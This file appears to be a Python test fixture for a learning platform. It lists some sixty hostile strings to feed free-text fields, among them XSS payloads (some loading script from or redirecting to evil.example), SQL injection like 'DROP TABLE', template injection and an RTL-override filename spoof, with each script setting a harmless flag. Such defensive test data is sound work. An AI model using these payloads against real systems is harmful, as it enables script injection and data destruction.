"""Hostile strings a learner (or someone pretending to be one) might type into any free-text field.

Every payload that could run script sets `window.__pwned`, so a browser test can tell that none ran.
HOSTILE is a list of (label, text); TEXTS is the texts alone and LABELS the labels, for parametrize.
"""

PWN = "window.__pwned=1"

HOSTILE: list[tuple[str, str]] = [
    # markup and script in every form
    ("script", f"<script>{PWN}</script>"),
    ("script-upper", f"<SCRIPT>{PWN}</SCRIPT>"),
    ("script-src", "<script src=//evil.example/x.js></script>"),
    ("script-split", f"<scr<script>ipt>{PWN}</scr</script>ipt>"),
    ("img-onerror", f'<img src=x onerror="{PWN}">'),
    ("img-onerror-noquote", f"<img src=x onerror={PWN}>"),
    ("img-alert", "<img src=x onerror=alert(1)>"),
    ("svg-onload", f"<svg onload={PWN}>"),
    ("svg-script", f"<svg><script>{PWN}</script></svg>"),
    ("iframe-js", f'<iframe src="javascript:{PWN}"></iframe>'),
    ("body-onload", f"<body onload={PWN}>"),
    ("details-ontoggle", f"<details open ontoggle={PWN}>"),
    ("input-autofocus", f"<input autofocus onfocus={PWN}>"),
    ("a-javascript", f'<a href="javascript:{PWN}">click me</a>'),
    ("javascript-url", f"javascript:{PWN}"),
    ("data-url", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+"),
    ("style-tag", "<style>body{display:none}</style>"),
    ("object-embed", f'<object data="javascript:{PWN}"></object><embed src=x>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("unclosed-comment", "<!-- everything after me hides"),
    ("cdata", f"<![CDATA[<script>{PWN}</script>]]>"),
    # attribute breakers
    ("attr-double", f'" onmouseover="{PWN}" x="'),
    ("attr-single", f"' onmouseover='{PWN}' x='"),
    ("attr-close-tag", f'"><img src=x onerror={PWN}>'),
    ("attr-backtick", f"`><svg onload={PWN}>`"),
    # entities
    ("entities", f"&lt;script&gt;{PWN}&lt;/script&gt; &amp; &quot; &#39;"),
    ("numeric-entities", "&#60;img src=x onerror=alert(1)&#62; &#x3C;b&#x3E;"),
    ("ampersand-text", "R&D, AT&T & Johnson & Johnson; 5 < 6 > 4"),
    # CSS injection
    ("css-expression", "x</style><style>*{background:url(javascript:alert(1))}</style>"),
    ("css-attr", f'" style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="{PWN}'),
    # template syntax
    ("mustache", "{{constructor.constructor('window.__pwned=1')()}}"),
    ("dollar-template", "${window.__pwned=1} ${7*7} #{7*7} <%= 7*7 %>"),
    ("jinja", "{% for x in range(9) %}{{ x }}{% endfor %}"),
    ("latex", "$\\alert{1}$ $$x^2$$ \\(a\\)"),
    # markdown
    ("md-link", "[x](javascript:alert(1))"),
    ("md-image", f"![x](https://evil.example/t.png) ![y](javascript:{PWN})"),
    ("md-heading-list", "# Heading\n- item\n> quote\n1. one"),
    ("md-html-mix", f"**bold** _em_ `code` <b>bold</b> [a](<javascript:{PWN}>)"),
    ("autolink", "<https://evil.example> http://evil.example/?q=<x>"),
    # very long text
    ("long-10000", "Long reflection " + "x" * 9984),
    ("long-words", ("Handoff " * 1250).strip()),
    # bidi, zero-width, invisible
    ("rtl-override", "Invoice \u202egnp.exe\u202c done"),
    ("bidi-isolates", "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069 \u200e\u200f"),
    ("rtl-letters", "שלום עולם مرحبا بالعالم"),
    ("zero-width", "zero\u200bwidth\u200cjoin\u200dhere\ufeff"),
    ("soft-hyphen", "co\u00adoperate and wordjoin\u2060ed"),
    # emoji and combining characters
    ("emoji", "Great shift 👩🏽‍⚕️🏥💉 👍🏿 🇺🇸"),
    ("combining", "Ze\u0301phyrine Zalgo: Z\u0336\u0353\u0324a\u0361l\u0489g\u0338o\u0347"),
    ("nfd-name", "Jose\u0301 Nun\u0303ez"),
    # SQL-looking text
    ("sql-drop", "'; DROP TABLE events; --"),
    ("sql-or", "' OR '1'='1' /* */ UNION SELECT * FROM learners --"),
    # control characters
    ("null-bytes", f"before\x00after <script>{PWN}</script>\x00"),
    ("newlines-tabs", "line one\nline two\r\nline\tthree\n\n\nlast"),
    ("backslashes", "C:\\Users\\nurse\\notes\\n \\x3cscript\\x3e \\\\server\\share"),
    ("control-chars", "bell\x07 escape\x1b[31m red \x08back"),
    # homoglyphs
    ("homoglyphs", "Аdmin Ρaypal ѕcript (Cyrillic and Greek look-alikes) ＜script＞"),
    ("fullwidth-tags", f"＜img src=x onerror={PWN}＞"),
    # all at once
    ("kitchen-sink", f"<script>{PWN}</script>\x00\u202e\u200b'\"><img src=x onerror={PWN}> [x](javascript:alert(1)) 😀"),
]

LABELS = [label for label, _ in HOSTILE]
TEXTS = [text for _, text in HOSTILE]
BY_LABEL = dict(HOSTILE)

assert len(HOSTILE) >= 50 and len(set(LABELS)) == len(LABELS)
